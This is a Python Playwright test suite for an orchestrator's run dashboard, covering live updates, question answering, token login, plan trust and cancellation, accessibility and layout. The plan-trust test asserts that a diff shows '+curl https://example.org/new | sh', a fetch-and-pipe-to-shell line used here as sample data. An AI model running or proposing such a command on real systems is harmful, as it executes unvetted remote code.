"""The dashboard in a real browser: it follows a run, takes an answer, keeps what one types, and everybody can use it."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import pytest

from orchestrator import inbox, ledger
from orchestrator.model import TaskId
from tests.browser.conftest import Site
from tests.ledger.outcomes import line
from tests.web import scenes

SOON_S = 2.0
BAD = ("serious", "critical")
PATHS = (
    ("runs", "/"),
    ("live", "/runs/{asking}"),
    ("failed", "/runs/{failing}"),
    ("done", "/runs/{small}"),
    ("task", "/runs/{failing}/tasks/auth-broken/2"),
    ("question", "/runs/{asking}/tasks/auth/6"),
    ("try", "/runs/{asking}/tasks/auth/4/tries/1"),
    ("events", "/runs/{failing}/events"),
    ("routing", "/routing"),
    ("models", "/models"),
    ("plan", "/plans/waiting/plans/auth-PLAN.md"),
    ("login", "/login"),
    ("patterns", "/patterns"),
    ("wrong", "/runs/none"),
)


def path_of(site: Site, name: str) -> str:
    return dict(PATHS)[name].format(**site.told.names)


def took(page: Any, selector: str) -> float:
    """Seconds until it is there; playwright's own waiting.

    Where there are several of them, each begins as the one before is there: the whole way from one look to the next is
    in each, and what else this machine does is not in all.
    """
    began = time.monotonic()
    page.wait_for_selector(selector)
    return time.monotonic() - began


def test_a_run_is_followed_as_it_goes_on(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    page.wait_for_selector("[id='t-auth/4'] .state.run")
    play = site.told.plays["asking"]
    play.finish(4, 600, scenes.passed(90_000))
    times = [took(page, "[id='t-auth/4'] .state.ok")]
    assert page.inner_text("#figures .value >> nth=0").startswith("4")
    assert page.locator("#graph a.succeeded").count() == 4
    play.start(8, 601)
    times.append(took(page, "[id='t-auth/8'] .state.run"))
    assert page.locator(".timeline tbody tr").count() == 7
    play.finish(8, 602, scenes.failed())
    times.append(took(page, "[id='t-auth/8'] :text('tries again')"))
    assert sorted(times)[1] < SOON_S, times  # one may meet a machine that is busy


def test_the_front_page_follows_a_run_to_its_end(site: Site):
    front, play = site.open("/"), site.told.plays["asking"]
    front.wait_for_selector("#link.on")
    times = list[float]()
    for task, done in ((4, 4), (5, 5)):
        play.finish(task, 600, scenes.passed())
        times.append(took(front, f"#live-{play.run} :text('{done} / 10')"))
    site.told.house.live = ()
    site.told.book.announce([])
    play.end(700, 130)  # the last: nothing tells of the others
    times.append(took(front, f"#run-{play.run} .state.warn"))
    assert sorted(times)[1] < SOON_S, times  # one may meet a machine that is busy


def test_nothing_is_lost_between_a_page_and_its_stream(site: Site):
    page = site.open("/")
    held: list[Any] = []
    page.route("**/stream?**", lambda route: held.append(route))
    page.goto(site.origin + path_of(site, "live"))
    page.wait_for_function("document.body.dataset.stream")
    while not held:
        page.wait_for_timeout(20)
    site.told.plays["asking"].finish(4, 600, scenes.passed())
    held[0].continue_()
    page.wait_for_selector("[id='t-auth/4'] .state.ok")  # else never: nothing else happens


def test_what_a_person_does_is_left_alone(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    page.check("input[value=ses]")
    page.fill("textarea", "half of a")
    page.focus("textarea")
    page.click("#sure summary")
    page.focus("textarea")
    page.mouse.wheel(0, 300)
    page.evaluate("window.mine = document.querySelector('textarea')")
    play = site.told.plays["asking"]
    play.finish(5, 600, scenes.passed())
    page.wait_for_selector("[id='t-auth/5'] .state.ok")
    assert page.evaluate("document.activeElement === window.mine && window.mine.isConnected")
    assert page.input_value("textarea") == "half of a"
    assert page.is_checked("input[value=ses]")
    assert page.evaluate("document.getElementById('sure').open")
    assert page.evaluate("scrollY") > 0


def test_a_question_is_answered_with_a_click(site: Site):
    page = site.open("/")
    page.click("#asks a.big")
    page.check("input[value=postmark]")
    page.fill("textarea", "the bill goes to Bo")
    page.click("button:text('Approve')")
    page.wait_for_selector("output.said:not(:text('…')):not(:empty), .note.ok")
    letters = [letter for _, letter in inbox.look(site.told.house.root)]
    assert [(one.task, one.answer and one.answer.option) for one in letters] == [
        ("auth/6", "postmark")
    ]
    answer = letters[0].answer
    assert answer is not None
    assert (answer.approved, answer.note) == (True, "the bill goes to Bo")
    play = site.told.plays["asking"]
    play.tell(scenes.EventKind.CHECKPOINT_ANSWERED, 610, {"answer": scenes.dump(answer)}, 6)
    page.wait_for_selector("[id='t-auth/6'] .state.ok")
    assert page.is_hidden("#questions")


def test_an_answer_that_is_none_says_why(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    page.click("button:text('Approve')")  # without a choice
    page.wait_for_selector("output.bad:text('choose one first')")
    assert page.evaluate("document.activeElement.name") == "option"
    play = site.told.plays["asking"]
    play.finish(4, 600, scenes.passed())
    page.wait_for_selector("[id='t-auth/4'] .state.ok")
    assert page.is_visible("output.bad:text('choose one first')")  # still red
    assert inbox.look(site.told.house.root) == []


def test_what_is_refused_stays_red_and_the_focus_where_it_was(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    page.check("input[value=ses]")
    page.evaluate("document.querySelector('input[value=ses]').value = 'pigeon'")
    page.focus("button:text('Approve')")
    page.keyboard.press("Enter")
    page.wait_for_selector("output.bad:text('ses, postmark')")
    site.told.plays["asking"].finish(4, 600, scenes.passed())
    page.wait_for_selector("[id='t-auth/4'] .state.ok")
    assert page.is_visible("output.bad:text('ses, postmark')")
    assert page.evaluate("document.activeElement.textContent") == "Approve"


def test_a_link_with_the_token_works_where_the_log_in_stands_already(site: Site):
    page = site.open("/")
    page.context.clear_cookies()
    page.goto(f"{site.origin}/login")
    page.evaluate("token => { location.hash = token }", site.server.token)
    page.wait_for_url(f"{site.origin}/")


def test_a_log_in_leads_back_to_the_page_and_the_browser_complains_of_nothing(
    site: Site, chromium: Any
):
    context = chromium.new_context()
    page, told = context.new_page(), list[str]()
    page.on("console", lambda said: told.append(said.text))
    asked = f"{site.origin}/runs/{site.told.names['small']}?tasks=1"
    page.goto(asked)
    assert page.url.startswith(f"{site.origin}/login?next=/runs/")
    page.wait_for_timeout(300)  # for what it has to say of the form
    page.fill("input[name=token]", site.server.token)
    page.click("button")
    page.wait_for_url(asked)
    page.goto("about:blank")  # or its stream, where it comes late, asks without the cookie
    page.context.clear_cookies()
    page.goto(asked)
    page.goto(f"{page.url}#{site.server.token}")  # by the link of a terminal, where one stands
    page.wait_for_url(asked)
    assert told == []
    context.close()


def test_a_plan_that_is_done_is_run_again(site: Site):
    page = site.open(path_of(site, "done"))
    page.click("button:text('Run again')")
    page.wait_for_selector("output:text('enqueue: done')")
    (asked,) = [one for one, _ in site.told.house.asked]
    assert (asked.paths, asked.again) == (("plans/hello-PLAN.md",), True)


def test_a_plan_is_trusted_and_a_run_cancelled_and_resumed(site: Site):
    page = site.open("/")
    page.click("summary:text('what is other')")
    assert "+curl https://example.org/new | sh" in page.inner_text(".diff")
    page.click("button:text('Trust and run')")
    page.wait_for_selector("output:text('it has changed')")  # who goes on before that tears it off
    page.goto(site.origin + path_of(site, "live"))
    page.click("#sure summary")
    page.click("button:text('Cancel this run')")
    page.wait_for_selector("output:text('cancel: done')")
    site.told.plays["asking"].finish(4, 600, scenes.passed())
    page.wait_for_selector("[id='t-auth/4'] .state.ok")
    assert page.is_visible("output:text('cancel: done')")  # it stays to be read
    page.goto(site.origin + path_of(site, "failed"))
    page.fill("input[name=budget_usd]", "2.5")
    page.click("button:text('Resume')")
    page.wait_for_selector("output:text('resume: done')")
    asked = [one for one, _ in site.told.house.asked]
    assert [type(one).__name__ for one in asked] == ["Trust", "Cancel", "Resume"]
    assert asked[0].sha256 == site.told.house.plans[2].sha256
    assert asked[2].budget_usd == 2.5


def test_s1_11_the_page_of_routing_has_its_panels_and_follows(site: Site, tmp_path: Path):
    page = site.open("/experiments/routing-dashboard")
    assert page.url == f"{site.origin}/routing"
    page.wait_for_selector("#link.on")
    for name in (
        "Ended well",
        "Success by model",
        "Saved against always sonnet",
        "Latest decisions",
    ):
        assert page.is_visible(f"h2:text('{name}')")
    assert "58 tasks of models" in page.inner_text("main")
    play, times = site.told.plays["asking"], list[float]()
    for task, count in ((4, 59), (5, 60)):
        ledger.append(tmp_path / "ledger", [line("opus", number=900 + count, at=scenes.moment())])
        play.finish(task, 600, scenes.passed())
        times.append(took(page, f":text('{count} tasks of models')"))
    assert min(times) < SOON_S, times


def test_what_workers_say_is_there_at_once(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    play, house, times = site.told.plays["asking"], site.told.house, list[float]()
    for word in ("Edit: src/<b>new</b>.py", "Read: src/old.py", "Bash: true"):
        house.lines[play.run] = {play.id(4): word}
        site.server.call(house.ring)
        times.append(took(page, f"[id='t-auth/4'] :text('{word}')"))
    assert min(times) < SOON_S, times


@pytest.mark.parametrize("look", ["light", "dark"])
def test_no_page_keeps_anybody_out(site: Site, axe: str, look: str):
    page = site.open("/", color_scheme=look, bypass_csp=True)
    found = []
    for name, _ in PATHS:
        page.goto(site.origin + path_of(site, name))
        page.evaluate(axe)
        told = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        bad = [one for one in told["violations"] if one["impact"] in BAD]
        found += [
            (name, one["id"], [node["html"][:160] for node in one["nodes"]][:3]) for one in bad
        ]
    assert found == []


def test_all_pages_ask_their_own_origin_alone_and_break_no_rule(site: Site):
    page = site.open("/")
    for name, _ in PATHS[:-1]:
        page.goto(site.origin + path_of(site, name))
    assert [url for url in site.asked if not url.startswith(site.origin + "/")] == []
    assert site.wrong == []
    assert any("/stream?after=" in url for url in site.asked)


@pytest.mark.parametrize("look", ["light", "dark", "phone"])
def test_pages_fit_and_are_kept_as_pictures(site: Site, look: str):
    """Into $SCREENSHOTS, for eyes."""
    size = {"width": 380, "height": 800} if look == "phone" else {"width": 1280, "height": 860}
    page = site.open("/", viewport=size, color_scheme="dark" if look == "dark" else "light")
    folder = os.environ.get("SCREENSHOTS")
    for name, _ in PATHS:
        page.goto(site.origin + path_of(site, name))
        wide = page.evaluate(
            "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        )
        assert wide <= 0, f"{name} is {wide} px too wide"
        if folder:
            Path(folder).mkdir(parents=True, exist_ok=True)
            page.screenshot(path=f"{folder}/{name}-{look}.png", full_page=name != "try")


def test_what_a_worker_did_is_not_told_once_it_has_ended(site: Site):
    page = site.open(path_of(site, "live"))
    page.wait_for_selector("#link.on")
    house = site.told.house
    house.lines = {site.told.names["asking"]: {TaskId("auth/5"): "writes"}}
    site.server.call(house.ring)
    page.wait_for_selector("[data-doing='auth/5']:text('writes')")
    page.wait_for_function("document.querySelector(\"[data-doing='auth/4']\").textContent === ''")


def test_without_a_script_all_can_be_read(site: Site):
    page = site.open(path_of(site, "live"), java_script_enabled=False)
    assert page.is_visible("noscript p")
    assert "Amazon SES" in page.inner_text("main")
    assert page.locator("#graph a").count() == 10


def test_the_keyboard_reaches_everything(site: Site):
    page = site.open(path_of(site, "live"))
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    page.wait_for_function("document.activeElement.id === 'main'")
    reached = set()
    for _ in range(90):
        page.keyboard.press("Tab")
        reached.add(
            page.evaluate(
                "(e => e.tagName.toLowerCase() + ':' + (e.getAttribute('href') || e.name || e.className || e.textContent))(document.activeElement)"
            )
        )
    run = site.told.names["asking"]
    for wanted in (
        f"a:/runs/{run}/tasks/auth/9",
        "textarea:note",
        "input:option",
        "button:approved",
        "summary:button",
    ):
        assert wanted in reached, wanted


def test_a_page_that_nobody_serves_any_more_says_so(site: Site):
    page = site.open("/")
    page.wait_for_selector("#link.on")
    site.end_server()
    page.wait_for_selector("#link.off:text('disconnected')")


def test_a_wrong_token_is_told_on_the_page(site: Site):
    page = site.open("/")
    page.context.clear_cookies()
    page.goto(site.origin + "/")
    assert page.url.endswith("/login")
    page.fill("input[name=token]", "nonsense")
    page.click("button")
    assert "wrong" in page.wait_for_selector("output.bad").inner_text()
